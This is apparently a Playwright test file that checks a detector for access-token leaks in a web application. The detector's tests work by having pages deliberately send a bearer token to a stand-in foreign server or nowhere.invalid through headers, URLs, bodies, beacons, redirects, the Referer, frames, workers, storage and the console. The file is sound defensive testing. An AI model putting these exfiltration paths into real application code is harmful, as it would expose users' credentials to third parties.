import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import type { BrowserContext } from "@playwright/test";
import { expect, test } from "./support/tokens/fixture.ts";
import type { TokenWatch } from "./support/tokens/token-watch.ts";

/**
 * The watch over all other tests must be able to fail. Here pages do on purpose what the application must
 * never do, each in another way, and the watch has to tell.
 */

interface Place {
  readonly home: string;
  readonly elsewhere: string;
  readonly token: string;
}

const script = "text/javascript";
const files: Readonly<Record<string, readonly [type: string, body: string]>> = {
  "/": ["text/html", "<!doctype html><title>Leaks</title><link rel=icon href=data:,>"],
  "/dedicated.js": [script, "onmessage = ({data}) => fetch(data).finally(() => postMessage(0))"],
  "/shared.js": [
    script,
    "onconnect = ({ports: [p]}) => { p.onmessage = ({data}) => fetch(data).finally(() => p.postMessage(0)) }",
  ],
  "/service.js": [script, "onmessage = ({data, source}) => fetch(data).finally(() => source.postMessage(0))"],
};

/** A page with a token that it may send to its own server only, and a server elsewhere. */
async function withPlace(number: number, run: (place: Place) => Promise<void>): Promise<void> {
  const token = `token-${"0123456789abcdef".repeat(2)}-${String(number).padStart(3, "0")}`;
  const elsewhere = createServer((_request, response) => {
    response
      .writeHead(200, { "Access-Control-Allow-Origin": "*", "Access-Control-Allow-Headers": "*" })
      .end("x");
  });
  const home = createServer((request, response) => {
    const { pathname, search } = new URL(request.url ?? "/", "http://home");
    const configuration = {
      providers: [{ authority: "/oidc", origins: ["/"] }],
      catalogues: [{ passThrough: "/through/" }],
    };
    if (pathname === "/config.json") response.end(JSON.stringify(configuration));
    else if (pathname === "/oidc/token") response.end(JSON.stringify({ access_token: token }));
    else if (pathname === "/away")
      response.writeHead(302, { Location: `${origins.elsewhere}/${search}` }).end();
    else {
      const [type, body] = files[pathname] ?? ["text/plain", ""];
      response.writeHead(200, { "Content-Type": type }).end(body);
    }
  });
  const listen = (server: typeof home) =>
    new Promise<string>((resolve) => {
      server.listen(0, "127.0.0.1", () =>
        resolve(`http://127.0.0.1:${(server.address() as AddressInfo).port}`),
      );
    });
  const origins = { home: await listen(home), elsewhere: await listen(elsewhere) };
  try {
    await fetch(`${origins.home}/config.json`).then((answer) => answer.text());
    await fetch(`${origins.home}/oidc/token`, { method: "POST" }).then((answer) => answer.text());
    await run({ ...origins, token });
  } finally {
    for (const server of [home, elsewhere]) {
      server.close();
      server.closeAllConnections();
    }
  }
}

type Misdeed = (place: Place) => unknown;

/** What is done in the page, and what must be said about it. */
const misdeeds: readonly [name: string, misdeed: Misdeed, told: RegExp][] = [
  [
    "an Authorization header to a server that is not listed",
    ({ elsewhere, token }) => fetch(elsewhere, { headers: { authorization: `Bearer ${token}` } }),
    /^access token in header authorization of GET/,
  ],
  [
    "another header to the right server",
    ({ home, token }) => fetch(home, { headers: { "x-token": token } }),
    /^access token in header x-token of GET/,
  ],
  ["an address", ({ home, token }) => fetch(`${home}/?t=${token}`), /^access token in address of GET/],
  [
    "an address, encoded",
    ({ elsewhere, token }) => fetch(`${elsewhere}/?t=${encodeURIComponent(btoa(`a${token}`))}`),
    /^access token in address of GET/,
  ],
  [
    "a body",
    ({ elsewhere, token }) => fetch(elsewhere, { method: "POST", body: `{"t":"${token}"}` }),
    /^access token in body of POST/,
  ],
  [
    "a beacon",
    ({ elsewhere, token }) => navigator.sendBeacon(elsewhere, token),
    /^access token in body of POST/,
  ],
  [
    "a redirect",
    ({ home, token }) => fetch(`${home}/away?t=${token}`),
    /^access token in address of GET http:\/\/127.0.0.1:\d+\/$/,
  ],
  [
    "a picture of a host that does not exist",
    ({ token }) =>
      new Promise((resolve) => {
        const picture = new Image();
        picture.addEventListener("error", resolve);
        picture.src = `https://nowhere.invalid/${token}.png`;
      }),
    /^access token in address of GET https:\/\/nowhere\.invalid\/….png$/,
  ],
  [
    "a frame",
    ({ elsewhere, token }) =>
      new Promise((resolve) => {
        const frame = document.createElement("iframe");
        frame.addEventListener("load", resolve);
        frame.src = `${elsewhere}/${token}`;
        document.body.append(frame);
      }),
    /^access token in address of GET/,
  ],
  [
    "a popup",
    ({ elsewhere, token }) => void window.open(`${elsewhere}/popup?t=${token}`),
    /^access token in address of GET .*\/popup$/,
  ],
  [
    "the Referer",
    ({ elsewhere, token }) => {
      history.replaceState(null, "", `/?kept=${token}`);
      return fetch(elsewhere, { referrerPolicy: "unsafe-url" });
    },
    /^access token in header referer of GET/,
  ],
  [
    "a dedicated worker",
    ({ elsewhere, token }) =>
      new Promise((resolve) => {
        const worker = new Worker("/dedicated.js");
        worker.addEventListener("message", resolve);
        worker.postMessage(`${elsewhere}/dedicated?${token}`);
      }),
    /^access token in address of GET .*\/dedicated$/,
  ],
  [
    "a shared worker",
    ({ elsewhere, token }) =>
      new Promise((resolve) => {
        const { port } = new SharedWorker("/shared.js");
        port.addEventListener("message", resolve);
        port.start();
        port.postMessage(`${elsewhere}/shared?${token}`);
      }),
    /^access token in address of GET .*\/shared$/,
  ],
  [
    "a service worker",
    async ({ elsewhere, token }) => {
      await navigator.serviceWorker.register("/service.js");
      const { active } = await navigator.serviceWorker.ready;
      await new Promise((resolve) => {
        navigator.serviceWorker.addEventListener("message", resolve);
        navigator.serviceWorker.startMessages();
        active?.postMessage(`${elsewhere}/service?${token}`);
      });
    },
    /^access token in address of GET .*\/service$/,
  ],
  ["the console", ({ token }) => console.log("failed", { token }), /^access token in console$/],
  [
    "an error report",
    ({ token }) => void setTimeout(() => void Promise.reject(new Error(token))),
    /^access token in error report$/,
  ],
  ["localStorage", ({ token }) => localStorage.setItem("a", token), /^access token in localStorage$/],
  ["sessionStorage", ({ token }) => sessionStorage.setItem("a", token), /^access token in sessionStorage$/],
  [
    "Cache storage",
    async ({ token }) => (await caches.open("a")).put("/x", new Response(token)),
    /^access token in Cache storage$/,
  ],
  ["the history", ({ token }) => history.pushState({ token }, "", "/#kept"), /^access token in history$/],
  [
    "the page",
    ({ token }) => {
      document.body.textContent = token;
    },
    /^access token in page$/,
  ],
];

test("a token is found wherever a page could have put it", async ({ context, tokens }) => {
  for (const [number, [name, misdeed, told]] of misdeeds.entries()) {
    await test.step(`in ${name}`, () =>
      withPlace(number, async (place) => {
        const page = await context.newPage();
        await page.goto(place.home);
        await page.evaluate(misdeed, place);
        await expect
          .poll(() => found(context, tokens), { message: name })
          .toContainEqual(expect.stringMatching(told));
        for (const opened of context.pages()) await opened.close();
        // Made on purpose and seen: they are not the next test's.
        tokens.leaks();
      }));
  }
});

async function found(context: BrowserContext, tokens: TokenWatch): Promise<readonly string[]> {
  await tokens.look(context);
  return tokens.leaks();
}

test("a token that goes where it belongs is no leak, and the watch has seen it", async ({ page, tokens }) => {
  await withPlace(misdeeds.length, async ({ home, token }) => {
    await page.goto(home);
    const file = `${home}/through/${home.replace("://", "/")}/file.tif`;
    await page.evaluate(
      async ({ addresses, token }) => {
        for (const address of addresses)
          await fetch(address, { headers: { authorization: `Bearer ${token}` } });
      },
      { addresses: [home, file], token },
    );
    expect(tokens.known("access token")).toBeGreaterThan(0);
    expect(await found(page.context(), tokens)).toEqual([]);
  });
});
